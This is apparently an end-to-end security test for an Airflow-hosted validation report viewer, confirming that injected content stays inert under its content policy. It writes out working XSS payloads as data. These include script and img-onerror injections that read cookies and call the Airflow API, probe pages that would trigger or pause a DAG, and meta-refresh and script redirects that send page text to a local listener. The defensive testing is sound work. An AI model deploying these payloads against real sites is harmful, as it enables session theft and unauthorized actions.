"""Nothing planted in a report runs or calls home: headless Chromium logged in to the session's api-server.

The hostile batch is a copy of the session's published run's batch (``published_run``) with a
payload in every input a person or a file can put into a report: the environment (its name, or a
prompt file's URI) and its options, the model reference, the code version, the review decision's
reason and who decided, a suite summary's examples, GX error message and threshold, and the
audit's model path. The overview page the viewer serves is then written by the real report code
(``write_report_index``). Whoever writes the storage can also rewrite any file whole, so the
overview page (its own policy and referrer policy taken out) and a Data Docs result page then get
:data:`CALL_HOME`: a script that sends the page's text and address to a listener by navigating its
own frame, one that navigates the top window, a ``<meta>`` refresh to the listener with a
``<meta>`` referrer policy that would send the page's full address, and two links. Next to them lie two files made of
a script (``probe.html``, ``probe.svg``) that would read Airflow's API, trigger a run and pause
the DAG. A DAG run record (created, never run) points the viewer at the batch, as the plan task's
XCom does. The listener listens on another loopback host than the api-server, so the browser sends
it no Airflow cookie of its own accord.

The test proves, in Airflow's UI frame and as the top window: no planted payload or script ran,
no frame or window was navigated, the refresh was refused; the only request that reached the
listener is a reader's own click on a planted link, which carries the link's fixed address and, as
its ``Referer``, the report's address, which reads nothing without the reader's session (401).
Pages keep Airflow's origin: their style sheets, images and fonts load through the authenticated
routes with the session cookie alone, in the UI's frame too; and links between report pages work.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import re
import shutil
import time
import urllib.error
import urllib.request
from pathlib import Path
from types import SimpleNamespace

import pytest

from tasks import layout
from tasks.batch import Batch
from tasks.orchestration.steps import batch_record, run_batch_id
from tasks.records.review import new_decision
from tasks.records.suite_summary import SummaryCounts
from tasks.report import write_report_index

from .browser import chromium, sign_in
from .report_runs import SCRIPT_BLOCKED, STYLED, listening, register_run

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
HOSTILE_RUN = "manual__hostile-report"
PLANTED = (
    "environment",
    "options",
    "model",
    "code_version",
    "reason",
    "decided_by",
    "example",
    "error",
    "threshold",
    "audit_model",
)
# What a payload does when it runs: record where it ran and what it could read, and tell the listener.
RECORD = (
    "var r={t:'TAG',o:self.origin};try{r.c=document.cookie}catch(e){r.c=e.name}"
    "(window.P=window.P||[]).push(r);new Image().src='LISTENER/ran?'+encodeURIComponent(JSON.stringify(r));"
    "fetch('/api/v2/dags',{credentials:'include'}).then(x=>x.status,e=>e.name)"
    ".then(s=>{new Image().src='LISTENER/api?'+encodeURIComponent(JSON.stringify({t:'TAG',s:s}))})"
)
# The probe pages' script: the same, plus a POST that would trigger a run and a PATCH that would pause the DAG.
PROBE = """
const seen = {o: self.origin};
try { seen.c = document.cookie } catch (e) { seen.c = e.name }
try { seen.storage = String(localStorage.length) } catch (e) { seen.storage = e.name }
const call = (url, init) => fetch(url, {credentials: 'include', ...init}).then(r => r.status, e => e.name);
Promise.all([
  call('/api/v2/dags'),
  call('/api/v2/dags/rollout_batch/dagRuns', {method: 'POST', headers: {'Content-Type': 'text/plain'},
                                              body: '{"logical_date": null}'}),
  call('/api/v2/dags/rollout_batch', {method: 'PATCH', headers: {'Content-Type': 'application/json'},
                                      body: '{"is_paused": true}'}),
]).then(([read, trigger, pause]) => {
  Object.assign(seen, {read, trigger, pause});
  window.P = seen;
  new Image().src = 'LISTENER/probe?' + encodeURIComponent(JSON.stringify(seen));
});
"""


def payload(tag: str, listener: str, *, short: bool = False) -> str:
    """A ``<script>`` and an ``<img onerror>`` that run :data:`RECORD` (only the latter when ``short``)."""
    script = RECORD.replace("TAG", tag).replace("LISTENER", listener)
    if short:  # decided_by holds at most 256 characters
        return f"<img src=x onerror=\"new Image().src='{listener}/ran?{tag}'\">"
    return f'<script>{script}</script><img src=x onerror="{script}">'


# What a storage writer puts into a whole page, by where it goes: <meta> tags into <head>, links first in <body>
# (where a reader sees them), scripts last (when the whole text is there to send).
CALL_HOME = {
    "head": """<meta name="referrer" content="unsafe-url">
<meta http-equiv="refresh" content="0;url=LISTENER/refresh">""",
    "links": """<a id="planted-link" data-planted href="LISTENER/link">more</a>
<a id="planted-top" data-planted href="LISTENER/top-link" target="_top">all</a>""",
    "scripts": """<script data-planted>
  location = "LISTENER/frame?" + encodeURIComponent(document.body.innerText + location.pathname);
</script>
<script data-planted>
  top.location = "LISTENER/top?" + encodeURIComponent(document.body.innerText + location.pathname);
</script>""",
}
REFRESH_REFUSED = "Refused to execute the redirect specified via '<meta http-equiv='refresh'"


@pytest.fixture(scope="module")
def listener():
    with listening() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_run(published_run, listener, tmp_path_factory):
    """The published batch copied, a payload planted in every input, the page rewritten, a run record naming it."""
    dag_run, conf = published_run
    batch_id = run_batch_id(conf, dag_run)
    root = tmp_path_factory.mktemp("hostile-run")
    source = Path(conf["storage_url"].removeprefix("file://")) / "batches" / batch_id
    shutil.copytree(source, root / "batches" / batch_id)
    batch = Batch.open(str(root), batch_id)
    store = batch.store
    payloads = {tag: payload(tag, listener.url, short=tag == "decided_by") for tag in PLANTED}

    config = batch.config
    hostile = dataclasses.replace(
        config,
        environment=payloads["environment"],
        environment_options={**config.environment_options, payloads["options"]: payloads["options"]},
        model=dataclasses.replace(config.model, reference=payloads["model"]),
        code_version=payloads["code_version"],
    )
    store.replace(layout.plan_config(), hostile.to_json().encode())
    batch = Batch.open(str(root), batch_id)  # a handle caches the config it read: open the planted one
    decision = new_decision(batch_id, "publish", payloads["reason"], decided_by=payloads["decided_by"], via="airflow")
    store.replace(layout.REVIEW_RECORD, decision.to_json().encode())  # the run's own record: publish's, unreviewed
    plant_summary(batch, payloads)
    plant_audit_model(store, payloads["audit_model"])
    write_report_index(batch)
    reports = root / "batches" / batch_id / "reports"
    (result,) = (reports / "lineage" / "run-000" / "validations" / "lineage" / "shards").rglob("*.html")
    for page in (reports / "index.html", result):
        plant_call_home(page, listener.url)
    for name in ("probe.html", "probe.svg"):
        (reports / name).write_text(probe_file(name, listener.url))

    run = SimpleNamespace(dag_id=dag_run.dag_id, run_id=HOSTILE_RUN)
    register_run(run.dag_id, run.run_id, batch_record({"storage_url": f"file://{root}", "batch_id": batch_id}, run))
    return dag_run.dag_id, HOSTILE_RUN, payloads


def plant_summary(batch: Batch, payloads: dict[str, str]) -> None:
    """A later run of the dataset suite whose first warn expectation failed with hostile examples, error, threshold."""
    summary = batch.suite_summary("dataset")
    outcomes = list(summary.expectations)
    index = next(i for i, e in enumerate(outcomes) if e.severity == "warn")
    outcomes[index] = dataclasses.replace(
        outcomes[index],
        success=False,
        unexpected_count=1,
        examples=(payloads["example"],),
        error=payloads["error"],
        threshold=[payloads["threshold"]],
    )
    planted = dataclasses.replace(
        summary,
        status="warned",
        success=True,
        expectations=tuple(outcomes),
        counts=SummaryCounts(expectations=len(outcomes), failed=0, warned=1, rows=summary.counts.rows),
        run="run-001",
    )
    batch.store.write_once(layout.suite_summary("dataset", "run-001"), planted.to_json().encode())


def plant_audit_model(store, model_path: str) -> None:
    """``metrics.json`` with the audit's model path replaced, resealed in the published marker."""
    metrics = json.loads(store.read_bytes(layout.DATASET_METRICS))
    metrics["audit"] = {**(metrics.get("audit") or {}), "model_path": model_path}
    data = (json.dumps(metrics, sort_keys=True, indent=2) + "\n").encode()
    store.replace(layout.DATASET_METRICS, data)
    marker = json.loads(store.read_bytes(layout.DATASET_MARKER))
    marker["metrics"].update(size=len(data), sha256=hashlib.sha256(data).hexdigest())
    store.replace(layout.DATASET_MARKER, json.dumps(marker, sort_keys=True, indent=2).encode())


def plant_call_home(page: Path, listener: str) -> None:
    """:data:`CALL_HOME` written into ``page``, the page's own policy and referrer ``<meta>`` (the overview's) out."""
    head, links, scripts = (CALL_HOME[part].replace("LISTENER", listener) for part in ("head", "links", "scripts"))
    text = re.sub(r'<meta (http-equiv="Content-Security-Policy"|name="referrer")[^>]*>', "", page.read_text())
    planted = re.sub(r"<body[^>]*>", lambda body: body[0] + links, text.replace("<head>", f"<head>{head}", 1), count=1)
    planted = planted.replace("</body>", f"{scripts}</body>", 1)
    assert planted.count(listener) == text.count(listener) + 5 and "Content-Security-Policy" not in planted, page
    assert planted.count('name="referrer"') == 1, page
    page.write_text(planted)


def probe_file(name: str, listener: str) -> str:
    script = PROBE.replace("LISTENER", listener)
    if name.endswith(".svg"):
        return f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{script}]]></script></svg>'
    return f"<!doctype html><title>probe</title><script>{script}</script>"


def dag_state(dag_id: str) -> tuple[bool, int]:
    """Whether ``dag_id`` is paused, and how many runs it has."""
    from airflow.models.dag import DagModel
    from airflow.models.dagrun import DagRun
    from airflow.utils.session import create_session
    from sqlalchemy import func, select

    with create_session() as session:
        paused = session.scalar(select(DagModel.is_paused).where(DagModel.dag_id == dag_id))
        runs = session.scalar(select(func.count()).select_from(DagRun).where(DagRun.dag_id == dag_id))
    return bool(paused), int(runs)


INERT = """
return {origin: self.origin, ran: typeof window.P,
        active: document.querySelectorAll('script:not([data-planted]), img, iframe, object, embed').length,
        text: document.body.innerText};
"""
READ_API = """
const done = arguments[arguments.length - 1];
fetch('/api/v2/dags', {credentials: 'include'}).then(r => done(r.status), e => done(e.name));
"""


def open_report_tab(browser, wait, run_page: str) -> None:
    """The run's page in Airflow's UI, its "Validation report" tab, and the browser switched into the tab's frame."""
    from selenium.webdriver.common.by import By

    browser.get(run_page)
    wait.until(lambda b: b.find_elements(By.LINK_TEXT, "Validation report")).pop().click()
    browser.switch_to.frame(wait.until(lambda b: b.find_elements(By.TAG_NAME, "iframe"))[0])
    wait.until(lambda b: b.find_elements(By.TAG_NAME, "h1"))


def data_docs_at(suffix: str):
    """A wait condition: the browser shows a Data Docs page (by its title) at an address ending in ``suffix``."""
    return lambda browser: (
        address_of(browser).endswith(suffix) and "Great Expectations" in browser.execute_script("return document.title")
    )


def address_of(browser) -> str:
    """The address of the document the browser is switched to (``current_url`` is the top window's)."""
    return browser.execute_script("return location.href")


def refused(browser, wait) -> None:
    """Wait until the console shows the page's scripts blocked and its ``<meta>`` refresh refused."""
    logged: list[str] = []

    def both(browser) -> bool:
        logged.extend(entry["message"] for entry in browser.get_log("browser"))
        return any(SCRIPT_BLOCKED in line for line in logged) and any(REFRESH_REFUSED in line for line in logged)

    wait.until(both)


def inert_page(browser, origin: str) -> dict:
    """The page the browser shows, once it is checked to be in Airflow's origin with nothing planted running in it."""
    page = browser.execute_script(INERT)
    assert (page["origin"], page["ran"]) == (origin, "undefined")
    assert page["active"] == 0  # no payload made an element: only what CALL_HOME planted
    return page


def status_without_session(url: str) -> int:
    """The status the api-server answers ``url`` with, asked without a cookie or token."""
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


def test_planted_scripts_do_not_run_and_nothing_planted_calls_home(hostile_run, api_server_url, listener):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    dag_id, run_id, payloads = hostile_run
    url = api_server_url
    overview = f"{url}/rollout-ledger/dags/{dag_id}/runs/{run_id}/reports/"
    before = dag_state(dag_id)
    browser = chromium()
    wait = WebDriverWait(browser, 60)
    try:
        sign_in(browser, url)
        # Airflow's own origin, the report's too: a script there would read the session token and call the API.
        assert "_token=" in browser.execute_script("return document.cookie")
        assert browser.execute_async_script(READ_API) == 200

        run_page = f"{url}/dags/{dag_id}/runs/{run_id}"
        open_report_tab(browser, wait, run_page)
        ui = browser.current_url  # the top window: the UI's run page, its report tab
        refused(browser, wait)
        page = inert_page(browser, url)
        assert address_of(browser) == overview
        for tag in ("environment", "model", "code_version", "reason", "decided_by", "example", "error", "threshold"):
            assert payloads[tag][:40] in page["text"], tag  # shown as text
        assert payloads["audit_model"][:40] in page["text"] and payloads["options"][:40] not in page["text"]
        browser.find_element(By.ID, "planted-top").click()  # a reader's click cannot take the UI's window
        browser.find_element(By.ID, "planted-link").click()  # nor carry more than the link and this address
        wait.until(lambda b: [heard.path for heard in listener.heard] == ["/link"])

        # A link between report pages, in the UI's frame: the overview to a planted Data Docs result page.
        browser.find_element(By.LINK_TEXT, "shards").click()  # the overview's link to a table's result page
        wait.until(data_docs_at("/lineage-shards.html"))
        refused(browser, wait)
        assert browser.execute_script(INERT)["ran"] == "undefined"
        wait.until(lambda b: b.execute_script("return document.fonts.status") == "loaded")
        styled = browser.execute_script(STYLED)  # loaded with the session cookie: the UI's frame keeps the origin
        assert (styled["jquery"], styled["navbar"], styled["container"]) == ("undefined", "flex", "48px")
        assert "Font Awesome 6 Free" in styled["iconFont"] and styled["iconLoaded"] and styled["logo"] > 0
        assert all(name.startswith(url + "/rollout-ledger/") for name in styled["loaded"])
        browser.switch_to.default_content()
        assert browser.current_url == ui

        # The overview as the top window: the same.
        browser.get(overview)
        refused(browser, wait)
        inert_page(browser, url)

        # Files made of a script (an HTML page, an SVG image): their scripts do not run either.
        for name in ("probe.html", "probe.svg"):
            browser.get(overview + name)
            wait.until(lambda b: b.execute_script("return document.readyState") == "complete")
            assert browser.execute_script("return typeof window.P") == "undefined", name
    finally:
        browser.quit()

    time.sleep(1)
    (click,) = listener.heard  # no payload, planted script, refresh, top link or probe reached it: the click alone
    assert (click.path, click.query) == ("/link", "")
    assert not {"cookie", "authorization"} & {name.lower() for name in click.headers}
    assert click.headers["Referer"] == overview  # the planted referrer policy: the report's address, and no data
    assert status_without_session(click.headers["Referer"]) == 401  # which reads nothing without the session
    assert dag_state(dag_id) == before  # not paused, no run triggered
